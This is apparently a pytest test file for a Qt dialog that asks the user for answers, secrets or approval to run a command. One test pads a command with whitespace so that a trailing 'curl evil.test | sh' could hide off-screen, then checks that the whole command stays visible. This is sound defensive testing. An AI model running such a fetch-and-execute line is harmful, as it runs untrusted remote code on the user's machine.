"""A scheme's question is asked on a card of the window; answers, Cancel and Stop come back."""

import asyncio

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QLineEdit, QPlainTextEdit

from inspector.gui.forms.secret_edit import SecretEdit
from inspector.gui.sending.question_card import QuestionCard
from inspector.model.question import Question, QuestionField

CODE = "one-time-314159"
BOTH = Question(
    text="<b>Who</b> are you?",
    fields=(
        QuestionField(name="user", label="User name"),
        QuestionField(name="code", label="Code", is_secret=True),
    ),
    browser="http://login.example/device",
)


@pytest.fixture
def card(qtbot, panel_tools):
    card = QuestionCard(panel_tools)
    qtbot.addWidget(card)
    return card


@pytest.fixture
def ask(card, panel_tools):
    """Ask from the network thread, as a scheme does."""
    panel_tools.workbench.ask = card.ask
    return lambda question: panel_tools.workbench.submit(card.ask(question))


def shown(card):
    return card.isVisible


def test_what_is_typed_comes_back(qtbot, card, ask):
    running = ask(BOTH)
    qtbot.waitUntil(shown(card))
    assert card.browse.isVisible()
    secret = card.findChild(SecretEdit)
    plain = next(each for each in card.findChildren(QLineEdit) if each is not secret.line)
    qtbot.keyClicks(plain, "ann")
    qtbot.keyClicks(secret.line, CODE)
    qtbot.keyClick(secret.line, Qt.Key.Key_Return)
    answers = running.result(60)
    assert {name: value.reveal() for name, value in answers.items()} == {
        "user": "ann",
        "code": CODE,
    }
    qtbot.waitUntil(lambda: not card.isVisible())
    assert CODE not in card.accessibleName()


def test_cancel_and_esc_are_no_answer(qtbot, card, ask):
    running = ask(BOTH)
    qtbot.waitUntil(shown(card))
    qtbot.mouseClick(card.cancel, Qt.MouseButton.LeftButton)
    assert running.result(60) is None
    running = ask(Question(text="Ready?"))
    qtbot.waitUntil(shown(card))
    assert not card.browse.isVisible()
    qtbot.keyClick(card.go, Qt.Key.Key_Escape)
    assert running.result(60) is None


def test_a_command_is_agreed_to_by_its_button_alone(qtbot, card, ask):
    question = Question(text="Run it?", exact="gh auth token <b>x</b>", agree="Run it")
    running = ask(question)
    qtbot.waitUntil(shown(card))
    assert card.findChild(QPlainTextEdit, "question_exact").toPlainText() == question.exact
    assert card.go.text() == "Run it"
    qtbot.keyClick(card, Qt.Key.Key_Return)  # meant for something else: Cancel has the focus
    assert running.result(60) is None
    running = ask(question)
    qtbot.waitUntil(shown(card))
    qtbot.mouseClick(card.go, Qt.MouseButton.LeftButton)
    assert running.result(60) == {}
    running = ask(question)
    qtbot.waitUntil(shown(card))
    qtbot.keyClick(card, Qt.Key.Key_Escape)
    assert running.result(60) is None
    running = ask(Question(text="Ready?"))
    qtbot.waitUntil(shown(card))
    assert card.go.text() == "Continue"
    assert card.findChild(QPlainTextEdit, "question_exact") is None
    card.go.click()
    assert running.result(60) == {}


def _widest_line(edit):
    first = edit.document().firstBlock().layout()
    lines = (first.lineAt(at) for at in range(first.lineCount()))
    return max((line.x() + line.naturalTextWidth() for line in lines), default=0)


@pytest.mark.parametrize("filler", ["x", "x ", "x\n"])
def test_a_long_command_is_there_to_its_end_above_its_buttons(qtbot, card, ask, filler):
    card.resize(700, 400)
    command = "echo " + filler * (5000 // len(filler)) + "; curl evil.test | sh"
    running = ask(Question(text="Run it?", exact=command, agree="Run it"))
    qtbot.waitUntil(shown(card))
    exact = card.findChild(QPlainTextEdit, "question_exact")
    assert exact.toPlainText() == command
    bar = exact.verticalScrollBar()
    qtbot.waitUntil(lambda: bar.maximum() > 0)
    for size in (700, 500, 900):  # no sign is hidden at the end of a line
        card.resize(size, 400)
        qtbot.waitUntil(lambda: _widest_line(exact) <= exact.viewport().width())
    bar.setValue(bar.maximum())
    last = exact.cursorForPosition(exact.viewport().rect().bottomRight())
    assert last.atEnd()
    assert card.sizeHint().height() < 400
    for button in (card.go, card.cancel):
        assert card.rect().contains(button.geometry())
    card.cancel.click()
    assert running.result(60) is None


def test_a_short_command_takes_no_more_room_than_it_needs(qtbot, card, ask):
    card.resize(700, 400)
    running = ask(Question(text="Run it?", exact="gh auth token", agree="Run it"))
    qtbot.waitUntil(shown(card))
    exact = card.findChild(QPlainTextEdit, "question_exact")
    qtbot.waitUntil(lambda: exact.height() < 3 * exact.fontMetrics().lineSpacing())
    assert not exact.verticalScrollBar().maximum()
    card.cancel.click()
    assert running.result(60) is None


def test_questions_come_one_after_the_other(qtbot, card, ask):
    first, second = ask(Question(text="First?")), ask(Question(text="Second?"))
    qtbot.waitUntil(shown(card))
    assert card.accessibleName() == "First?"
    card.go.click()
    qtbot.waitUntil(lambda: card.accessibleName() == "Second?" and card.isVisible())
    card.go.click()
    assert (first.result(60), second.result(60)) == ({}, {})


def test_a_stopped_request_takes_its_question_away(qtbot, card, ask):
    running = ask(BOTH)
    qtbot.waitUntil(shown(card))
    running.cancel()
    qtbot.waitUntil(lambda: not card.isVisible())


def test_the_window_answers_for_its_workbench(frame):
    window = frame.window
    bench = frame.tools.workbench
    assert asyncio.iscoroutinefunction(bench.ask)
    assert asyncio.iscoroutinefunction(bench.hosts.ask)
    assert window.questions.built is None
